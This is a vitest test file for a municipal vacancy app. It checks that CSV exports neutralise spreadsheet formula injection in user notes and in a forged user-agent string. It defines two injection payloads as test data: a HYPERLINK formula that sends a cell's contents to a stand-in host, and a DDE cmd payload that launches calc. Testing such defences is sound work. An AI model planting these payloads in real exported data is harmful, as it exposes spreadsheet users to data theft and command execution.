import { sessionUserFor, signInAs } from '../support/session-mock';
import { createTranslator } from 'use-intl/core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { SessionUser } from '@/lib/auth/roles';
import vi_messages from '@/lib/i18n/messages/vi.json';
import { form } from '../support/action-harness';
import { parseCsv } from '../support/csv';
import { createTestDatabase, type TestDatabase } from '../support/database';

// Every CSV the app writes goes through the one writer (lib/exports/tabular.ts,
// docs/decisions/032-one-csv-writer-and-safe-callbacks.md): a text a user typed that a spreadsheet would run as a
// formula comes out with a leading apostrophe, while typed numbers stay numbers.

const HYPERLINK = '=HYPERLINK("http://x?x="&B2)';
const CMD = "-2+3+cmd|' /C calc'!A0";

const request = { userAgent: 'vitest' };
vi.mock('next/headers', () => ({ headers: async () => new Headers({ 'user-agent': request.userAgent }) }));
vi.mock('next-intl/server', () => ({
  getTranslations: async (namespace?: string) => createTranslator({ locale: 'vi', messages: vi_messages, namespace: namespace as never }),
  getLocale: async () => 'vi',
}));

const { declareVacancy } = await import('@/lib/actions/vacancies/declare-vacancy');
const vacancies = await import('@/app/api/exports/vacancies/route');
const audit = await import('@/app/api/exports/audit/route');

let database: TestDatabase;
let chairman: SessionUser;
let homeAffairs: SessionUser;
let organizing: SessionUser;
let communeId: number;

beforeAll(async () => {
  database = await createTestDatabase('seeded');
  process.env.DATABASE_URL = database.url;
  process.env.APP_TODAY = '2025-11-10';
  [chairman, homeAffairs, organizing] = await Promise.all(['xa.ngamy', 'noivu', 'bantochuc'].map((u) => sessionUserFor(database.db, u)));
  communeId = chairman.communeId!;
});
afterAll(async () => {
  signInAs(null);
  await database?.drop();
});

const csvOf = async (response: Response) => {
  expect(response.status).toBe(200);
  return parseCsv((await response.text()).replace(/^\uFEFF/, ''));
};

describe('a note typed as a formula', () => {
  beforeAll(async () => {
    signInAs(chairman);
    request.userAgent = HYPERLINK;
    for (const [note, count] of [[HYPERLINK, 2], [CMD, 3]] as const) {
      const result = await declareVacancy(null, form({ communeId, positionId: '', field: 'it_digital', count, urgency: 'critical', note }));
      expect(result.ok).toBe(true);
    }
    request.userAgent = 'vitest';
  });

  test('is stored as typed (names and notes are text)', async () => {
    const notes = (await database.db.vacancy.findMany({ where: { communeId, note: { not: null } }, select: { note: true } })).map((v) => v.note);
    expect(notes).toEqual(expect.arrayContaining([HYPERLINK, CMD]));
  });

  test("comes out of the vacancies CSV as text: '=HYPERLINK…, '-2+3+cmd…; the counts stay numbers", async () => {
    signInAs(homeAffairs);
    const [header, ...rows] = await csvOf(await vacancies.GET(new Request('http://localhost/api/exports/vacancies?format=csv&vq=nga+my')));
    const note = header.indexOf('Ghi chú');
    const count = header.indexOf('Số lượng');
    const byNote = new Map(rows.map((row) => [row[note], row[count]]));
    expect(byNote.get(`'${HYPERLINK}`)).toBe('2');
    expect(byNote.get(`'${CMD}`)).toBe('3');
    expect(rows.some((row) => row.some((cell) => /^[=+\-@]/.test(cell)))).toBe(false);
  });

  test('a forged user agent comes out of the audit CSV as text', async () => {
    signInAs(organizing);
    const [header, ...rows] = await csvOf(await audit.GET(new Request('http://localhost/api/exports/audit')));
    const userAgent = header.indexOf('Trình duyệt');
    expect(userAgent).toBeGreaterThan(-1);
    expect(rows.filter((row) => row[userAgent] === `'${HYPERLINK}`)).toHaveLength(2);
    expect(rows.some((row) => row.some((cell) => /^[=+\-@]/.test(cell)))).toBe(false);
  });
});
